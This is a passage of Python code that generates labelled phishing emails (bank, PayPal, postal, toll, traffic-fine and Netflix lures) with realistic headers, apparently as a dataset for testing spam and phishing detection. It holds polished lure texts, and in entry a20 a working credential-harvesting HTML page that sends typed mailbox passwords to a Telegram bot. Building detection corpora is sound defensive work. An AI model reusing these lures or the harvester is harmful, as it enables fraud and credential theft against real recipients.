    body = Multi("alternative", hx(seed + "bd", 32), [text(plain, "plain", "quoted-printable", "utf-8"),
                                                       text(html, "html", "quoted-printable", "utf-8")])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(envfrom, "pass", "lloyds-secure-devices.com", "none", dom, "pass", "pic"),
                         sender, ctry="US", lang="en")
    add("b35-phish-lloyds-new-device", "phish", "phishing",
        "Lloyds Bank 'new device added, cancel this request' lure sent through Mailgun from the look-alike "
        "lloyds-secure-devices.com (DKIM passes for its mg. subdomain); tracked link to a credential page",
        headers, body)


def a17():
    seed = "a17"
    t = at(2025, 4, 22, 15, 18, 47)
    rcpt = "jenna.whitfield88@outlook.com"
    frm = "service@paypal.com"
    inv = f"INV2-{aln(seed + 'i1', 4, UPNUM)}-{aln(seed + 'i2', 4, UPNUM)}-{aln(seed + 'i3', 4, UPNUM)}-{aln(seed + 'i4', 4, UPNUM)}"
    link = f"https://www.paypal.com/invoice/p/#{inv}"
    ip = "173.0.84.226"
    ptr = "mx15.slc.paypal.com"
    note = ("Your Norton 360 Total Protection annual plan (5 devices) has been renewed and $499.99 will be debited "
            "from your account within 24 hours. If you did not authorize this renewal or wish to cancel and get a "
            "full refund, contact our billing department immediately at +1 (888) 414-2970.")
    sender = "\n".join([
        dkim("paypal.com", "pp-dkim1", t, "Date:Message-Id:PP-Correlation-Id:Subject:To:From:MIME-Version:Content-Type",
             seed),
        f"Received: from ccg01mail01.ccg01.paypal.com (10.74.{digits(seed + 'q', 2)}.{digits(seed + 'r', 2)}) by "
        f"mx15.slc.paypal.com (Postfix) with ESMTP id {hx(seed + 'qid', 10, True)}\n\tfor <{rcpt}>; {rfc(t - timedelta(seconds=2), -420)}",
        f"Date: {rfc(t - timedelta(seconds=2), -420)}",
        f"Message-Id: <{hx(seed + 'mi', 13)}.{epoch(t)}{digits(seed + 'md', 3)}@paypal.com>",
        f"PP-Correlation-Id: {hx(seed + 'cor', 13)}",
        "Subject: Invoice from Norton-Billing Team (0042)",
        f"To: {rcpt}",
        f"From: {addr('service@paypal.com', frm)}",
        "X-MaxCode-Template: PPX000620",
        "X-Email-Type-Id: PPX000620",
        "X-XPT-XSL-Name: invoicing/invoice_notification",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;background:#f5f7fa">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'PayPal Open','Helvetica Neue',Arial,sans-serif"><tr><td align="center" style="padding:24px 0">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:12px">
<tr><td style="padding:28px 40px 8px 40px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="44" height="44" alt="PayPal"></td></tr>
<tr><td style="padding:16px 40px;font-size:28px;color:#001435;font-weight:bold">Norton-Billing Team sent you an invoice</td></tr>
<tr><td style="padding:0 40px;font-size:15px;color:#001435">
<table width="100%" cellpadding="6" style="font-size:15px">
<tr><td style="color:#545d68">Amount due</td><td align="right"><b>$499.99 USD</b></td></tr>
<tr><td style="color:#545d68">Due date</td><td align="right">Due on receipt</td></tr>
<tr><td style="color:#545d68">Invoice number</td><td align="right">0042</td></tr>
</table>
<p style="background:#f1f5f9;border-radius:8px;padding:14px;font-size:14px;line-height:21px"><b>Seller note</b><br>{note}</p>
</td></tr>
<tr><td style="padding:16px 40px 30px 40px"><a href="{link}" style="display:inline-block;background:#003087;color:#ffffff;font-weight:bold;font-size:16px;padding:12px 32px;border-radius:24px;text-decoration:none">View and Pay Invoice</a></td></tr>
<tr><td style="padding:20px 40px;font-size:12px;color:#545d68;border-top:1px solid #e6e9eb">Don't recognise this invoice? <a href="https://www.paypal.com/us/cshelp/contact-us" style="color:#0070e0">Report it</a> to PayPal.<br><br>
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br>
&copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.<br>PayPal PPX000620:{hx(seed + 'pp', 12)}</td></tr>
</table></td></tr></table>
</body>""")
    plain = f"""Norton-Billing Team sent you an invoice

Amount due: $499.99 USD
Due date: Due on receipt
Invoice number: 0042

Seller note
{note}

View and Pay Invoice: {link}

Don't recognise this invoice? Report it to PayPal.
Copyright 1999-2025 PayPal, Inc. All rights reserved.
PayPal PPX000620:{hx(seed + 'pp', 12)}
"""
    body = Multi("alternative", f"--=_{hx(seed + 'bd', 24)}", [text(plain, "plain", "quoted-printable", "UTF-8"),
                                                              text(html, "html", "quoted-printable", "UTF-8")])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth("service@paypal.com", "pass", "paypal.com", "pass", "paypal.com", "pass", "pp-dkim1"),
                         sender)
    add("b35-phish-paypal-invoice-callback", "phish", "phishing",
        "Genuine PayPal invoice (passes paypal.com SPF/DKIM/DMARC) created by a scammer account 'Norton-Billing Team': "
        "the seller note announces a $499.99 renewal and gives a phone number to call for a 'refund' (callback fraud)",
        headers, body)


def a18():
    seed = "a18"
    t = at(2025, 2, 10, 11, 26, 40)
    rcpt = "aline_ferreira@outlook.com.br"
    frm = "rastreamento@clinicasorrisoperfeito.com.br"
    obj = "AA481927365BR"
    link = f"https://correios-rastreio.shop/pagamento?objeto={obj}"
    ip = "191.6.216.23"
    ptr = "smtp-216-23.kinghost.net"
    sender = "\n".join([
        postfix("smtp-216-23.kinghost.net", t - timedelta(seconds=2), rcpt, seed,
                client="webmail.kinghost.net (unknown [10.12.4.18])", auth=True, off=-180),
        f"From: {addr('Correios', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew(f'Correios: sua encomenda {obj} está aguardando pagamento da taxa', 'Q')}",
        f"Date: {rfc(t - timedelta(seconds=4), -180)}",
        f"Message-ID: <{hx(seed + 'm', 32)}@clinicasorrisoperfeito.com.br>",
        "X-Mailer: Microsoft Outlook 16.0",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="margin:0;font-family:Arial,Helvetica,sans-serif;background:#ffffff">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="border:1px solid #e2e2e2">
<tr><td style="background:#ffe600;padding:18px 24px;border-bottom:4px solid #00416b"><span style="color:#00416b;font-size:26px;font-weight:bold">Correios</span></td></tr>
<tr><td style="padding:24px;color:#333;font-size:14px;line-height:22px">
<p><b>Olá, cliente.</b></p>
<p>Sua encomenda <b>{obj}</b> chegou ao Centro de Distribuição em Curitiba/PR e foi <b>tributada</b> pela Receita Federal.</p>
<table width="100%" cellpadding="8" style="background:#f4f4f4;font-size:14px">
<tr><td>Status:</td><td><b style="color:#d9001b">Aguardando pagamento</b></td></tr>
<tr><td>Taxa de importação + despacho postal:</td><td><b>R$ 34,90</b></td></tr>
<tr><td>Prazo para pagamento:</td><td><b>12/02/2025</b></td></tr>
</table>
<p>Após o prazo, o objeto será devolvido ao remetente. O pagamento pode ser feito via <b>Pix</b> com liberação imediata.</p>
<p style="text-align:center;padding:10px 0"><a href="{link}" style="background:#00416b;color:#ffe600;padding:13px 30px;text-decoration:none;font-weight:bold">PAGAR TAXA E LIBERAR ENCOMENDA</a></p>
<p style="font-size:12px;color:#888">Empresa Brasileira de Correios e Telégrafos - SBN Quadra 1, Bloco A - Brasília/DF</p>
</td></tr></table>
</body>""", lang="pt-BR")
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "clinicasorrisoperfeito.com.br", "none", "", "none"),
                         sender, lang="pt", ctry="BR")
    add("b35-phish-correios-taxa", "phish", "phishing",
        "Correios 'encomenda tributada, pague R$ 34,90 via Pix' lure from a compromised dental-clinic mailbox on "
        "KingHost; button to a .shop look-alike collecting the Pix payment and card data",
        headers, text(html, "html"))


def a19():
    seed = "a19"
    t = at(2025, 1, 8, 2, 51, 16)
    rcpt = "mike.hollister55@gmail.com"
    frm = "noreply@uspsparcel-care.top"
    trk = "US9514961105932"
    link = f"https://uspsparcel-care.top/us/?trk={trk}"
    ip = "5.75.193.140"
    ptr = "static.140.193.75.5.clients.your-server.de"
    sender = "\n".join([
        postfix("uspsparcel-care.top", t - timedelta(seconds=1), rcpt, seed, client="localhost (localhost [127.0.0.1])"),
        f"From: {addr('USPS', frm)}",
        f"To: {rcpt}",
        f"Subject: USPS: Delivery attempt failed - Address incomplete (#{trk})",
        f"Date: {rfc(t - timedelta(seconds=2), 60)}",
        f"Message-ID: <{epoch(t)}.{hx(seed + 'm', 10)}@uspsparcel-care.top>",
        "MIME-Version: 1.0",
    ])
    plain = f"""USPS Tracking Notification

Tracking number: {trk}

We attempted to deliver your package on 01/07/2025 but could not complete the delivery
because the street address is incomplete (missing apartment / unit number).

Your package is now held at our local facility. Please update your delivery address
within 12 hours so we can reschedule delivery. A $0.30 redelivery fee applies.

Update address: {link}

If the address is not updated, the package will be returned to the sender.

The USPS Team
"""
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "uspsparcel-care.top", "none"), sender)
    add("b35-phish-usps-address", "phish", "phishing",
        "Plain-text USPS 'delivery attempt failed, address incomplete, $0.30 redelivery fee' lure from a .top "
        "look-alike on a Hetzner server (SPF pass, no DKIM); link to the card-harvesting 'update address' page",
        headers, text(plain, "plain", "7bit", "us-ascii"))


def a20():
    seed = "a20"
    t = at(2024, 9, 17, 9, 5, 33)
    rcpt = "javier_ruiz@hotmail.es"
    frm = "notificaciones@elrinconcitocafe.mx"
    awb = "4829105736"
    ip = "51.222.153.96"
    ptr = "vps-2b4f1c8a.vps.ovh.ca"
    token = f"{digits(seed + 'tk', 10)}:AAH{aln(seed + 'tt', 32, ALNUM + '-_')}"
    chat = "-100" + digits(seed + "ch", 10)
    page = f"""<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>DHL Express | Documentos de envío</title>
<style>
body{{margin:0;font-family:Frutiger,Arial,sans-serif;background:#f2f2f2}}
.top{{background:#ffcc00;padding:14px 24px}} .top b{{color:#d40511;font-size:28px;font-style:italic}}
.card{{max-width:380px;margin:40px auto;background:#fff;padding:28px;box-shadow:0 1px 4px rgba(0,0,0,.15)}}
input{{width:100%;padding:10px;margin:6px 0 14px 0;border:1px solid #ccc;box-sizing:border-box}}
button{{width:100%;background:#d40511;color:#fff;border:0;padding:12px;font-size:15px}}
.msg{{color:#d40511;font-size:13px;display:none}}
</style></head>
<body>
<div class="top"><b>DHL</b></div>
<div class="card">
<h3>Documentos de envío AWB {awb}</h3>
<p style="font-size:13px">Para ver la factura comercial y el aviso de aduana, confirme su dirección de correo electrónico.</p>
<div class="msg" id="m">Contraseña incorrecta. Inténtelo de nuevo.</div>
<label>Correo electrónico</label><input id="e" type="email" value="{rcpt}">
<label>Contraseña del correo</label><input id="p" type="password">
<button onclick="s()">Ver documentos</button>
</div>
<script>
var n=0;
function s(){{
 var e=document.getElementById('e').value,p=document.getElementById('p').value;
 if(p.length<4){{return;}}
 fetch('https://ipapi.co/json/').then(function(r){{return r.json();}}).then(function(g){{
  var t='DHL LOG\\nEmail: '+e+'\\nPass: '+p+'\\nIP: '+g.ip+' '+g.country_name+'\\nUA: '+navigator.userAgent;
  return fetch('https://api.telegram.org/bot{token}/sendMessage',{{method:'POST',headers:{{'Content-Type':'application/json'}},body:JSON.stringify({{chat_id:'{chat}',text:t}})}});
 }}).then(function(){{n++;
  if(n<2){{document.getElementById('m').style.display='block';document.getElementById('p').value='';}}
  else{{location.href='https://www.dhl.com/es-es/home/rastreo.html?tracking-id={awb}';}}
 }});
}}
</script>
</body></html>
"""
    sender = "\n".join([
        f"Received: by {ptr} (Postfix, from userid 33)\n\tid {hx(seed + 'q', 10, True)}; {rfc(t - timedelta(seconds=1), 120)}",
        f"To: {rcpt}",
        f"Subject: {ew(f'DHL: su envío {awb} está retenido en aduana - acción requerida', 'Q')}",
        "X-PHP-Originating-Script: 33:mailer.php",
        f"From: {addr('DHL Express', frm)}",
        "MIME-Version: 1.0",
        f"Message-Id: <{t:%Y%m%d%H%M%S}.{hx(seed + 'mi', 10, True)}@{ptr}>",
        f"Date: {rfc(t - timedelta(seconds=1), 120)}",
    ])
    plain = f"""Estimado cliente:

Su envío con número de guía (AWB) {awb} se encuentra retenido en el centro de aduanas de
Madrid-Barajas por falta de documentación.

Para evitar la devolución al remitente, revise la factura comercial y el aviso de aduana
adjuntos y confirme los datos de entrega en un plazo de 48 horas.

Documento adjunto: DHL_AWB_{awb}.html

Atentamente,
DHL Express Aduanas
"""
    body = Multi("mixed", f"=_{hx(seed + 'b', 32)}", [
        text(plain, "plain", "8bit", "utf-8"),
        attachment("text/html", f"DHL_AWB_{awb}.html", page.encode()),
    ])
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(f"www-data@{ptr}", "none", "elrinconcitocafe.mx", "none", compauth="fail", reason="001"),
                         sender, scl=5, cat="SPM", lang="es", ctry="CA")
    add("b35-phish-dhl-html-es", "phish", "phishing",
        "DHL 'envío retenido en aduana' mail sent with PHP mail() from a compromised OVH VPS (no SPF/DKIM for the "
        "From domain, compauth fail, junked); attached .html asks for the mailbox password and posts it to a Telegram bot",
        headers, body)


def a21():
    seed = "a21"
    t = at(2025, 3, 3, 17, 44, 59)
    rcpt = "bcarver77@hotmail.com"
    frm = "billing@ezpass-tollnotice.com"
    link = f"https://e-zpass.ny-tollservices.com/pay?invoice=T{digits(seed + 'iv', 9)}"
    ip = "62.171.186.244"
    ptr = "vmi2294811.contaboserver.net"
    helo = "mail.ezpass-tollnotice.com"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=1), rcpt, seed),
        dkim("ezpass-tollnotice.com", "mail", t, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type", seed),
        f"Date: {rfc(t - timedelta(seconds=2), 60)}",
        f"From: {addr('E-ZPass Customer Service', frm)}",
        f"To: {rcpt}",
        "Subject: Final Notice: Unpaid Toll Balance $6.85 - Avoid $50.00 Late Fee",
        f"Message-ID: <{hx(seed + 'm', 32)}@ezpass-tollnotice.com>",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="font-family:Arial,Helvetica,sans-serif;background:#ffffff;color:#222">
<div style="max-width:560px;margin:0 auto;border:1px solid #ddd">
<div style="background:#5b2c86;color:#fff;padding:16px 22px;font-size:22px;font-weight:bold">E-ZPass<sup style="font-size:10px">&reg;</sup></div>
<div style="padding:22px;font-size:14px;line-height:21px">
<p><b>FINAL NOTICE</b></p>
<p>Our records show that your vehicle traveled on a toll road without a valid E-ZPass transponder balance. An outstanding toll of <b>$6.85</b> is due.</p>
<table cellpadding="5" style="font-size:13px;border:1px solid #ddd;width:100%">
<tr><td>Invoice number:</td><td>T{digits(seed + 'iv', 9)}</td></tr>
<tr><td>Toll facility:</td><td>I-87 NYS Thruway</td></tr>
<tr><td>Amount due:</td><td><b>$6.85</b></td></tr>
<tr><td>Due date:</td><td><b>03/05/2025</b></td></tr>
</table>
<p>To avoid a <b>$50.00 late fee</b> and possible suspension of your vehicle registration by the DMV, please pay the balance before the due date.</p>
<p style="text-align:center"><a href="{link}" style="background:#5b2c86;color:#fff;padding:12px 28px;text-decoration:none;font-weight:bold">Pay Now</a></p>
<p style="font-size:11px;color:#777">This is an automated message. Please do not reply.</p>
</div></div>
</body>""")
    headers = outlook_in(seed, t, rcpt, ip, ptr, helo,
                         Auth(frm, "pass", "ezpass-tollnotice.com", "none", "ezpass-tollnotice.com", "pass", "mail"),
                         sender, ctry="DE")
    add("b35-phish-ezpass-unpaid-toll", "phish", "phishing",
        "E-ZPass 'final notice, unpaid toll $6.85, $50 late fee and DMV suspension' lure from a look-alike on a "
        "Contabo VPS (own SPF/DKIM); Pay Now link to a second look-alike collecting card details",
        headers, text(html, "html", "quoted-printable", "us-ascii"))


def a22():
    seed = "a22"
    t = at(2025, 5, 27, 7, 19, 48)
    rcpt = "mjose.navarro@gmail.com"
    frm = "administracion@gestoriaalcazar.es"
    exp = "2025/TR/0847261"
    link = "https://sede-dgt-multas.com/pago?exp=" + exp.replace("/", "-")
    ip = "40.107.162.99"
    ptr = "mail-db8eur05on2099.outbound.protection.outlook.com"
    mbx = f"AS8PR04MB{digits(seed + 'mb', 4)}.eurprd04.prod.outlook.com"
    sender = "\n".join([
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={b64(seed + 'as', 70)}",
        "ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom=gestoriaalcazar.es; dmarc=pass "
        "action=none\n header.from=gestoriaalcazar.es; dkim=pass header.d=gestoriaalcazar.es; arc=none",
        dkim("gestoriaalcazar.es", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:"
             "X-MS-Exchange-SenderADCheck", seed),
        fold(f"Received: from {mbx} (2603:10a6:20b:4c6::7) by {mbx.replace('AS8PR04MB', 'DU0PR04MB')} with Microsoft SMTP "
             f"Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {exch_build(t)}; {rfc(t - timedelta(seconds=1))}"),
        f"From: {addr('DGT - Notificaciones', frm)}",
        f"To: {addr('', rcpt)}",
        f"Subject: {ew(f'Notificación de sanción pendiente - Expediente {exp}')}",
        f"Thread-Topic: {ew(f'Notificación de sanción pendiente - Expediente {exp}')}",
        f"Thread-Index: {b64(seed + 'ti', 24)}",
        f"Date: {rfc(t - timedelta(seconds=2))}",
        f"Message-ID: {exchange_mid(seed, mbx)}",
        "Accept-Language: es-ES",
        "Content-Language: es-ES",
        "X-MS-Has-Attach: ",
        "X-MS-TNEF-Correlator: ",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body>
<div style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222;max-width:620px">
<table width="100%" cellpadding="0" cellspacing="0"><tr>
<td style="padding:14px 0;border-bottom:3px solid #005aa0;font-size:13px;color:#005aa0"><b>GOBIERNO DE ESPAÑA</b> &nbsp;|&nbsp; MINISTERIO DEL INTERIOR<br><span style="font-size:20px"><b>DGT</b> Dirección General de Tráfico</span></td></tr></table>
<p style="margin-top:20px"><b>NOTIFICACIÓN DE SANCIÓN</b></p>
<p>Le comunicamos que existe una denuncia pendiente de pago asociada a un vehículo de su titularidad:</p>
<table cellpadding="6" style="font-size:13px;border:1px solid #ccc;width:100%">
<tr><td style="background:#f0f4f8">Expediente</td><td>{exp}</td></tr>
<tr><td style="background:#f0f4f8">Infracción</td><td>Exceso de velocidad (art. 48 RGC) - 68 km/h en vía limitada a 50 km/h</td></tr>
<tr><td style="background:#f0f4f8">Importe</td><td><b>100,00 €</b> (50,00 € con reducción por pronto pago)</td></tr>
<tr><td style="background:#f0f4f8">Plazo</td><td>20 días naturales desde la recepción</td></tr>
</table>
<p>Puede consultar la fotografía del radar y abonar el importe con una reducción del 50% a través de la Sede Electrónica:</p>
<p><a href="{link}" style="background:#005aa0;color:#fff;padding:10px 22px;text-decoration:none">Consultar y pagar la multa</a></p>
<p style="font-size:11px;color:#666">Transcurrido el plazo sin efectuar el pago, se iniciará el procedimiento de apremio con un recargo del 20%.</p>
</div>
</body>""", lang="es")
    plain = f"""GOBIERNO DE ESPAÑA - DGT Dirección General de Tráfico

NOTIFICACIÓN DE SANCIÓN

Expediente: {exp}
Infracción: Exceso de velocidad (art. 48 RGC)
Importe: 100,00 € (50,00 € con reducción por pronto pago)

Consultar y pagar la multa: {link}
"""
    body = Multi("alternative", f"_000_{mbx.split('.')[0]}{hx(seed + 'bd', 16, True)}eurp_",
                 [text(plain, "plain", "quoted-printable", "utf-8"), text(html, "html", "quoted-printable", "utf-8")])
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "gestoriaalcazar.es", "pass", "gestoriaalcazar.es", "pass", "selector1",
                            policy_="p=NONE sp=NONE dis=NONE"), sender)
    add("b35-phish-dgt-multa", "phish", "phishing",
        "Spanish DGT 'notificación de sanción, pague con 50% de reducción' lure from a compromised gestoría's "
        "Microsoft 365 mailbox (passes SPF/DKIM/DMARC); link to a DGT look-alike payment page",
        headers, body)


def a23():
    seed = "a23"
    t = at(2025, 6, 30, 14, 31, 7)
    rcpt = "joaopaulo.lima77@gmail.com"
    frm = "notificacao@senatran-infracoes.com"
    auto = f"S0{digits(seed + 'ai', 8)}"
    link = f"https://senatran-infracoes.com/sne/consulta?auto={auto}"
    ip = "177.136.231.15"
    ptr = "177-136-231-15.cprapid.com"
    helo = "mail.senatran-infracoes.com"
    sender = "\n".join([
        postfix(helo, t - timedelta(seconds=1), rcpt, seed, off=-180),
        dkim("senatran-infracoes.com", "default", t, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", seed),
        f"From: {addr('SENATRAN - Sistema de Notificação Eletrônica', frm)}",
        f"To: {rcpt}",
        f"Subject: {ew(f'Notificação de Autuação - Infração de trânsito nº {auto} - pague com 40% de desconto')}",
        f"Date: {rfc(t - timedelta(seconds=2), -180)}",
        f"Message-ID: <{hx(seed + 'm', 32)}@senatran-infracoes.com>",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="font-family:Arial,Helvetica,sans-serif;background:#f1f1f1;margin:0">
<table width="620" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="background:#1351b4;padding:16px 24px;color:#fff"><b style="font-size:18px">gov.br</b> &nbsp; Ministério dos Transportes - SENATRAN</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#333;line-height:21px">
<p><b>NOTIFICAÇÃO DE AUTUAÇÃO POR INFRAÇÃO DE TRÂNSITO</b></p>
<p>Informamos que foi registrada infração de trânsito para veículo vinculado ao seu CPF:</p>
<table width="100%" cellpadding="6" style="font-size:13px;border:1px solid #ddd">
<tr><td style="background:#f3f6fb">Auto de Infração</td><td>{auto}</td></tr>
<tr><td style="background:#f3f6fb">Infração</td><td>Transitar em velocidade superior à máxima permitida em até 20%</td></tr>
<tr><td style="background:#f3f6fb">Valor</td><td>R$ 130,16</td></tr>
<tr><td style="background:#f3f6fb">Valor com desconto SNE (40%)</td><td><b style="color:#168821">R$ 78,10</b></td></tr>
<tr><td style="background:#f3f6fb">Vencimento</td><td>03/07/2025</td></tr>
</table>
<p>Pelo Sistema de Notificação Eletrônica (SNE) você pode pagar com <b>40% de desconto via Pix</b> até a data de vencimento.</p>
<p style="text-align:center"><a href="{link}" style="background:#1351b4;color:#fff;padding:12px 26px;border-radius:20px;text-decoration:none">Consultar infração e gerar Pix</a></p>
<p style="font-size:11px;color:#777">Após o vencimento, o valor integral será cobrado e os pontos serão registrados na CNH.</p>
</td></tr></table>
</body>""", lang="pt-BR")
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "senatran-infracoes.com", "none", "senatran-infracoes.com", "pass", "default"),
                       sender)
    add("b35-phish-senatran-multa-pix", "phish", "phishing",
        "SENATRAN/gov.br 'notificação de autuação, pague com 40% de desconto via Pix' lure from a look-alike domain "
        "(own SPF/DKIM pass); link to the fake SNE page generating a Pix charge",
        headers, text(html, "html"))


def a24():
    seed = "a24"
    t = at(2024, 12, 9, 10, 2, 25)
    rcpt = "sarahpalmer.uk@gmail.com"
    frm = "wordpress@theoldbakerytearoom.co.uk"
    link = "https://t.ly/RmRedlv9"
    ip = "35.214.133.61"
    ptr = "61.133.214.35.bc.googleusercontent.com"
    host = "uk1001.siteground.eu"
    sender = "\n".join([
        exim(host, t - timedelta(seconds=1), rcpt, frm, seed, client="localhost ([127.0.0.1] helo=theoldbakerytearoom.co.uk)",
             auth_user=frm, off=0),
        dkim("theoldbakerytearoom.co.uk", "default", t, CPANEL_H, seed, extra=" q=dns/txt;"),
        f"From: {addr('Royal Mail', frm)}",
        f"To: {rcpt}",
        "Subject: Your parcel is being held - a redelivery fee of 1.45 GBP is required",
        f"Date: {rfc(t - timedelta(seconds=2), 0)}",
        f"Message-ID: <{aln(seed + 'm', 40)}@theoldbakerytearoom.co.uk>",
        "X-Mailer: WPMailSMTP/Mailer/smtp 4.2.0",
        "MIME-Version: 1.0",
    ])
    html = html_page(f"""<body style="font-family:Arial,Helvetica,sans-serif;color:#333">
<div style="max-width:560px;margin:0 auto">
<div style="background:#da202a;padding:16px 20px;color:#ffdd00;font-size:22px;font-weight:bold">Royal Mail</div>
<div style="padding:20px;font-size:14px;line-height:22px;border:1px solid #eee">
<p>Dear Customer,</p>
<p>Your parcel could not be delivered today because there is an unpaid redelivery fee of <b>&pound;1.45</b>.</p>
<p>Tracking reference: <b>RM{digits(seed + 'rm', 9)}GB</b></p>
<p>To reschedule your delivery, please pay the fee and choose a new delivery date. If the fee is not paid within 48 hours your parcel will be returned to the sender.</p>
<p style="text-align:center;padding:10px 0"><a href="{link}" style="background:#da202a;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold">Reschedule delivery</a></p>
<p>Kind regards,<br>Royal Mail Customer Services</p>
</div>
<p style="font-size:11px;color:#999">Royal Mail Group Ltd, registered in England and Wales, number 4138203. Registered office: 185 Farringdon Road, London EC1A 1AA.</p>
</div>
</body>""")
    plain = f"""Royal Mail

Dear Customer,

Your parcel could not be delivered today because there is an unpaid redelivery fee of 1.45 GBP.
Tracking reference: RM{digits(seed + 'rm', 9)}GB

Reschedule delivery: {link}

Kind regards,
Royal Mail Customer Services
"""
    headers = gmail_in(seed, t, rcpt, ip, ptr,
                       Auth(frm, "pass", "theoldbakerytearoom.co.uk", "none", "theoldbakerytearoom.co.uk", "pass",
                            "default"), sender)
    add("b35-phish-royalmail-redelivery", "phish", "phishing",
        "Royal Mail '1.45 GBP redelivery fee' lure sent through a compromised tea-room WordPress site on SiteGround "
        "(WP Mail SMTP, passes its SPF/DKIM); t.ly short link to a card-harvesting page",
        headers, alt(plain, html, f"b1_{aln(seed + 'b', 42)}"))


def a25():
    seed = "a25"
    t = at(2025, 1, 19, 22, 3, 40)
    rcpt = "alyssa.romero@outlook.com"
    frm = "info.netflix.acct@zohomail.com"
    link = f"https://netflix-account-billing.vercel.app/login?id={hx(seed + 'id', 12)}"
    ip = "136.143.188.12"
    ptr = "sender4-op-o12.zoho.com"
    zid = f"{hx(seed + 'z1', 11)}.{hx(seed + 'z2', 16)}.{digits(seed + 'z3', 19)}"
    sender = "\n".join([
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(t)}; cv=none;\n\td=zohomail.com; s=zohoarc;\n\tb={b64(seed + 'as', 340)}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc;\n\tt={epoch(t)}; "
        f"h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To:Cc;\n\t"
        f"bh={b64(seed + 'abh', 43)}=;\n\tb={b64(seed + 'ab', 340)}",
        f"ARC-Authentication-Results: i=1; mx.zohomail.com;\n\tdkim=pass  header.i=zohomail.com;\n\tspf=pass  smtp.mailfrom={frm};\n"
        f"\tdmarc=pass header.from=<{frm}>",
        dkim("zohomail.com", "zm2022", t, "Date:Date:From:From:To:To:Message-ID:Subject:Subject:MIME-Version:"
             "Content-Type:Message-Id:Reply-To:Cc", seed, extra=" q=dns/txt;"),
        f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {epoch(t)}{digits(seed + 'zs', 3)}{int(hx(seed, 2), 16)}.{digits(seed + 'zt', 3)}; "
        f"{rfc(t - timedelta(seconds=1), -480, pad=True)} (PST)",
        f"Date: {rfc(t - timedelta(seconds=1), 330)}",
        f"From: {addr('Netflix', frm)}",
        f"To: {addr('', rcpt)}",
        f"Message-ID: <{zid}@zohomail.com>",
        "Subject: Your account is on hold",
        "MIME-Version: 1.0",
        "Importance: Medium",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ])
    html = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head><body ><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>
<table width="100%" cellpadding="0" cellspacing="0" style="max-width:500px;font-family:Helvetica,Arial,sans-serif"><tbody>
<tr><td style="padding:24px 0"><span style="color:#e50914;font-size:34px;font-weight:bold;letter-spacing:-1px">NETFLIX</span></td></tr>
<tr><td style="font-size:28px;font-weight:bold;color:#221f1f;padding-bottom:18px">Your account is on hold</td></tr>
<tr><td style="font-size:16px;color:#221f1f;line-height:22px;padding-bottom:16px">We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.</td></tr>
<tr><td style="padding:10px 0 24px 0"><a href="{link}" style="background:#e50914;color:#ffffff;padding:14px 0;width:100%;display:block;text-align:center;text-decoration:none;font-size:16px;border-radius:4px">Update account now</a></td></tr>
<tr><td style="font-size:14px;color:#221f1f;line-height:20px">Need help? We're here if you need it. Visit the <a href="{link}" style="color:#221f1f">Help Center</a> or contact us now.<br><br>- Your friends at Netflix</td></tr>
<tr><td style="font-size:11px;color:#a9a6a6;padding-top:30px">Questions? Call 1-866-579-7172<br>Netflix International B.V.</td></tr>
</tbody></table></div><br></div></body></html>
"""
    headers = outlook_in(seed, t, rcpt, ip, ptr, ptr,
                         Auth(frm, "pass", "zohomail.com", "pass", "zohomail.com", "pass", "zm2022"), sender, ctry="US")
    add("b35-phish-netflix-on-hold", "phish", "phishing",
        "Netflix 'your account is on hold, update payment' copy sent from a free Zoho Mail account (passes zohomail.com "
        "auth, display name 'Netflix'); both links to a vercel.app card-harvesting page",
        headers, Multi("alternative", f"----=_Part_{digits(seed + 'p', 7)}_{digits(seed + 'q', 9)}.{epoch(t)}{digits(seed + 'r', 3)}",
